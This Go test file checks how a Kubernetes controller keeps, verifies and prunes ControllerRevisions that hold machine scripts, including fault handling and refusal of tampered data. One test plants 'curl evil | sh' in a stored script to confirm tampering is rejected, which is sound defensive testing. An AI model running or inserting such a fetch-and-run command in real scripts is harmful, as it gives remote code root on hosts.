package profile

import (
	"context"
	"encoding/json"
	"errors"
	"strings"
	"testing"
	"time"

	appsv1 "k8s.io/api/apps/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/runtime/schema"
	"k8s.io/apimachinery/pkg/util/sets"
	"k8s.io/apimachinery/pkg/util/validation"
	"k8s.io/client-go/kubernetes/scheme"
	testingclock "k8s.io/utils/clock/testing"
	"sigs.k8s.io/controller-runtime/pkg/client"
	"sigs.k8s.io/controller-runtime/pkg/client/fake"
	"sigs.k8s.io/controller-runtime/pkg/client/interceptor"

	"github.com/kpssh/karpenter-provider-ssh/pkg/fault"
)

const poolNamespace = "kp-a"

// shelf is a Revisions over a fake API server that counts and can fail.
type shelf struct {
	*Revisions
	api     client.WithWatch
	clock   *testingclock.FakeClock
	creates int
	gets    int
	// onDelete is called before an object is deleted.
	onDelete func()
	// fail makes calls of a verb (create, get, list, delete) fail.
	fail map[string]error
}

func newShelf(objects ...client.Object) *shelf {
	s := &shelf{clock: testingclock.NewFakeClock(time.Unix(1e9, 0)), fail: map[string]error{}}
	s.api = fake.NewClientBuilder().WithScheme(scheme.Scheme).WithObjects(objects...).WithInterceptorFuncs(interceptor.Funcs{
		Create: func(ctx context.Context, c client.WithWatch, obj client.Object, opts ...client.CreateOption) error {
			s.creates++
			if err := s.fail["create"]; err != nil {
				return err
			}
			return c.Create(ctx, obj, opts...)
		},
		Get: func(ctx context.Context, c client.WithWatch, key client.ObjectKey, obj client.Object, opts ...client.GetOption) error {
			s.gets++
			if err := s.fail["get"]; err != nil {
				return err
			}
			return c.Get(ctx, key, obj, opts...)
		},
		List: func(ctx context.Context, c client.WithWatch, list client.ObjectList, opts ...client.ListOption) error {
			if err := s.fail["list"]; err != nil {
				return err
			}
			return c.List(ctx, list, opts...)
		},
		Delete: func(ctx context.Context, c client.WithWatch, obj client.Object, opts ...client.DeleteOption) error {
			if err := s.fail["delete"]; err != nil {
				return err
			}
			if s.onDelete != nil {
				s.onDelete()
			}
			return c.Delete(ctx, obj, opts...)
		},
	}).Build()
	s.restart()
	return s
}

// restart is a new process over the same cluster.
func (s *shelf) restart() {
	s.Revisions = NewRevisions(s.api, s.api, poolNamespace)
	s.Revisions.clock = s.clock
}

func (s *shelf) names(t *testing.T) []string {
	t.Helper()
	var list appsv1.ControllerRevisionList
	if err := s.api.List(t.Context(), &list); err != nil {
		t.Fatal(err)
	}
	var names []string
	for i := range list.Items {
		names = append(names, list.Items[i].Name)
	}
	return names
}

var (
	revisionResource = schema.GroupResource{Group: "apps", Resource: "controllerrevisions"}
	errForbidden     = apierrors.NewForbidden(revisionResource, "x", errors.New("no role"))
	errTimeout       = apierrors.NewServerTimeout(revisionResource, "get", 1)
)

func version(v string) Revision {
	p := sound()
	p.Spec.Version = v
	p.Spec.Scripts.Leave += "# <version> & " + v + "\n"
	return RevisionOf(p)
}

func TestRevisionIsNamedByItsContent(t *testing.T) {
	base := RevisionOf(sound())
	if base.Marker() != "sound@1" || base.Marker() != sound().Marker() {
		t.Errorf("marker %q", base.Marker())
	}
	if again := RevisionOf(sound()); again.Name != base.Name {
		t.Errorf("equal profiles, names %s and %s", base.Name, again.Name)
	}
	other := sound()
	other.Name = "other"
	edited := sound()
	edited.Spec.Scripts.Leave += " "
	timed := sound()
	timed.Spec.Timeouts.Leave = &metav1.Duration{Duration: time.Minute}
	unversioned := sound()
	unversioned.Spec.Version = ""
	names := sets.New(base.Name, RevisionOf(other).Name, RevisionOf(edited).Name, RevisionOf(timed).Name)
	if names.Len() != 4 {
		t.Errorf("different profiles share names: %v", sets.List(names))
	}
	if RevisionOf(unversioned).Name != base.Name || RevisionOf(unversioned).Version != "1" {
		t.Error("no version is not the default version")
	}
	if !strings.HasPrefix(base.Name, "sound-") {
		t.Errorf("%s does not tell the profile", base.Name)
	}
	for _, name := range []string{strings.Repeat("x", 253), strings.Repeat("x", 199) + "." + strings.Repeat("y", 53), "a"} {
		long := sound()
		long.Name = name
		if problems := validation.IsDNS1123Subdomain(RevisionOf(long).Name); len(problems) > 0 {
			t.Errorf("%s: %v", RevisionOf(long).Name, problems)
		}
	}
}

func TestRevisionOfSharesNothingWithTheProfile(t *testing.T) {
	p := sound()
	p.Spec.Timeouts.Leave = &metav1.Duration{Duration: time.Minute}
	revision := RevisionOf(p)
	p.Spec.Timeouts.Leave.Duration = time.Hour
	if revision.Spec.Timeouts.Leave.Duration != time.Minute {
		t.Error("an informer's object and a revision share memory")
	}
}

// Section 3 #15 #16, D15: leave runs the script that was installed, after profile and process are gone.
func TestRevisionOutlivesProcess(t *testing.T) {
	s := newShelf()
	want := version("1")
	if err := s.Ensure(t.Context(), want); err != nil {
		t.Fatal(err)
	}
	s.restart()
	got, err := s.Get(t.Context(), want.Name)
	if err != nil {
		t.Fatal(err)
	}
	if got.Name != want.Name || got.Marker() != "sound@1" || got.Spec.Scripts != want.Spec.Scripts {
		t.Errorf("got %+v", got)
	}
	if _, err := s.Get(t.Context(), want.Name); err != nil || s.gets != 1 {
		t.Errorf("read %d times, %v", s.gets, err)
	}
}

func TestKeptRevisionHasNoOwnerAndOneLabel(t *testing.T) {
	object := version("1").object(poolNamespace)
	if len(object.OwnerReferences) > 0 {
		t.Error("it would be collected with its owner")
	}
	if len(object.Labels) != 1 || object.Labels[RevisionLabel] != "true" {
		t.Errorf("labels %v: a DaemonSet in the namespace may adopt it", object.Labels)
	}
	if object.Annotations[MarkerAnnotation] != "sound@1" || object.Namespace != poolNamespace {
		t.Errorf("%s/%s %v", object.Namespace, object.Name, object.Annotations)
	}
}

func TestEnsureCostsOneCallInTenMinutes(t *testing.T) {
	s := newShelf()
	for range 5 {
		if err := s.Ensure(t.Context(), version("1")); err != nil {
			t.Fatal(err)
		}
	}
	if s.creates != 1 || s.gets != 0 {
		t.Errorf("%d creates, %d gets for 5 calls", s.creates, s.gets)
	}
	// Somebody deletes it: it is back before a host depends on it for long.
	if err := s.api.DeleteAllOf(t.Context(), &appsv1.ControllerRevision{}, client.InNamespace(poolNamespace)); err != nil {
		t.Fatal(err)
	}
	s.clock.Step(trust)
	if err := s.Ensure(t.Context(), version("1")); err != nil {
		t.Fatal(err)
	}
	if names := s.names(t); len(names) != 1 {
		t.Errorf("not restored: %v", names)
	}
	s.restart()
	if err := s.Ensure(t.Context(), version("1")); err != nil {
		t.Errorf("one that exists: %v", err)
	}
}

// Whoever can write ControllerRevisions must not get root on machines by it, nor stop a leave for ever.
func TestTamperedRevisionIsRefusedAndRepaired(t *testing.T) {
	want := version("1")
	for name, data := range map[string]string{
		"another script": strings.Replace(string(content(want.Profile, want.Spec)), "set -euo", "curl evil | sh; set -euo", 1),
		"no JSON":        `"text"`,
		"empty":          `{}`,
	} {
		t.Run(name, func(t *testing.T) {
			object := want.object(poolNamespace)
			object.Data.Raw = []byte(data)
			s := newShelf(object)
			_, err := s.Get(t.Context(), want.Name)
			wantFault(t, err, fault.Configuration, ReasonRevisionCorrupt, "kp-a/"+want.Name)
			if err := s.Ensure(t.Context(), want); err != nil {
				t.Fatal(err)
			}
			s.restart()
			if got, err := s.Get(t.Context(), want.Name); err != nil || got.Spec.Scripts != want.Spec.Scripts {
				t.Errorf("not repaired: %v", err)
			}
		})
	}
}

// An API server may give JSON back spaced and escaped differently; a newer controller may have kept more fields.
func TestRevisionSurvivesReformattingAndNewFields(t *testing.T) {
	want := version("1")
	var anything map[string]any
	if err := json.Unmarshal(content(want.Profile, want.Spec), &anything); err != nil {
		t.Fatal(err)
	}
	indented, err := json.MarshalIndent(anything, "", "    ")
	if err != nil {
		t.Fatal(err)
	}
	object := want.object(poolNamespace)
	object.Data.Raw = indented
	if _, err := newShelf(object).Get(t.Context(), want.Name); err != nil {
		t.Errorf("reformatted: %v", err)
	}
	anything["later"] = map[string]any{"field": true}
	object.Data.Raw, err = json.Marshal(anything)
	if err != nil {
		t.Fatal(err)
	}
	object.Name = revisionName(want.Profile, object.Data.Raw)
	if _, err := newShelf(object).Get(t.Context(), object.Name); err != nil {
		t.Errorf("with a field of a later version: %v", err)
	}
}

func TestPruneKeepsWhatIsInUseOrJustEnsured(t *testing.T) {
	s := newShelf(&appsv1.ControllerRevision{ObjectMeta: metav1.ObjectMeta{Namespace: poolNamespace, Name: "a-statefulset-1"}})
	elsewhere := version("9").object("kp-b")
	if err := s.api.Create(t.Context(), elsewhere); err != nil {
		t.Fatal(err)
	}
	used, unused, fresh := version("1"), version("2"), version("3")
	for _, revision := range []Revision{used, unused} {
		if err := s.Ensure(t.Context(), revision); err != nil {
			t.Fatal(err)
		}
	}
	s.clock.Step(grace)
	if err := s.Ensure(t.Context(), fresh); err != nil {
		t.Fatal(err)
	}
	if err := s.Prune(t.Context(), sets.New(used.Name)); err != nil {
		t.Fatal(err)
	}
	got := sets.New(s.names(t)...)
	if want := sets.New("a-statefulset-1", elsewhere.Name, used.Name, fresh.Name); !got.Equal(want) {
		t.Errorf("left: %v, want %v", sets.List(got), sets.List(want))
	}
	// What was pruned is written again when a host needs it.
	if err := s.Ensure(t.Context(), unused); err != nil || !sets.New(s.names(t)...).Has(unused.Name) {
		t.Errorf("pruned, then ensured: %v", err)
	}
	// A new leader has ensured nothing; only what hosts record counts.
	s.restart()
	if err := s.Prune(t.Context(), sets.New(used.Name)); err != nil {
		t.Fatal(err)
	}
	if got := sets.New(s.names(t)...); got.HasAny(unused.Name, fresh.Name) || !got.Has(used.Name) {
		t.Errorf("after restart: %v", sets.List(got))
	}
}

func TestEnsureDuringPruneEndsWithTheRevisionKept(t *testing.T) {
	s := newShelf(version("1").object(poolNamespace))
	ensured := make(chan error, 1)
	s.onDelete = func() { go func() { ensured <- s.Ensure(context.Background(), version("1")) }() }
	if err := s.Prune(t.Context(), nil); err != nil {
		t.Fatal(err)
	}
	if err := <-ensured; err != nil {
		t.Fatal(err)
	}
	if names := s.names(t); len(names) != 1 {
		t.Errorf("left: %v", names)
	}
}

func TestRevisionFaults(t *testing.T) {
	get := func(s *shelf) error { _, err := s.Get(context.Background(), "sound-1"); return err }
	ensure := func(s *shelf) error { return s.Ensure(context.Background(), version("1")) }
	prune := func(s *shelf) error { return s.Prune(context.Background(), nil) }
	kept := version("1").object(poolNamespace)
	for _, test := range []struct {
		name   string
		exists bool
		fail   map[string]error
		call   func(*shelf) error
		blame  fault.Blame
		reason string
		says   string
	}{
		{"get: gone", false, nil, get, fault.Configuration, ReasonRevisionMissing, "kp-a/sound-1"},
		{"get: API down", false, map[string]error{"get": errTimeout}, get, fault.Cluster, ReasonRevisionUnavailable, "reading ControllerRevision kp-a/sound-1"},
		{"get: forbidden", false, map[string]error{"get": errForbidden}, get, fault.Configuration, ReasonRevisionForbidden, "grant the controller"},
		{"ensure: API down", false, map[string]error{"create": errTimeout}, ensure, fault.Cluster, ReasonRevisionUnavailable, "keeping ControllerRevision"},
		{"ensure: forbidden", false, map[string]error{"create": errForbidden}, ensure, fault.Configuration, ReasonRevisionForbidden, "grant the controller"},
		{"ensure: exists, cannot be read", true, map[string]error{"get": errTimeout}, ensure, fault.Cluster, ReasonRevisionUnavailable, "keeping ControllerRevision"},
		{"prune: API down", true, map[string]error{"list": errTimeout}, prune, fault.Cluster, ReasonRevisionUnavailable, "listing"},
		{"prune: cannot delete", true, map[string]error{"delete": errForbidden}, prune, fault.Configuration, ReasonRevisionForbidden, "pruning"},
		{"cancelled", false, map[string]error{"create": context.Canceled}, ensure, fault.Cluster, ReasonRevisionUnavailable, "context canceled"},
	} {
		t.Run(test.name, func(t *testing.T) {
			s := newShelf()
			if test.exists {
				s = newShelf(kept.DeepCopy())
			}
			s.fail = test.fail
			wantFault(t, test.call(s), test.blame, test.reason, test.says)
			// Nothing is remembered of a failure.
			s.fail = nil
			if err := s.Ensure(t.Context(), version("1")); err != nil {
				t.Errorf("once it is over: %v", err)
			}
			if names := s.names(t); len(names) != 1 {
				t.Errorf("once it is over: %v", names)
			}
		})
	}
}
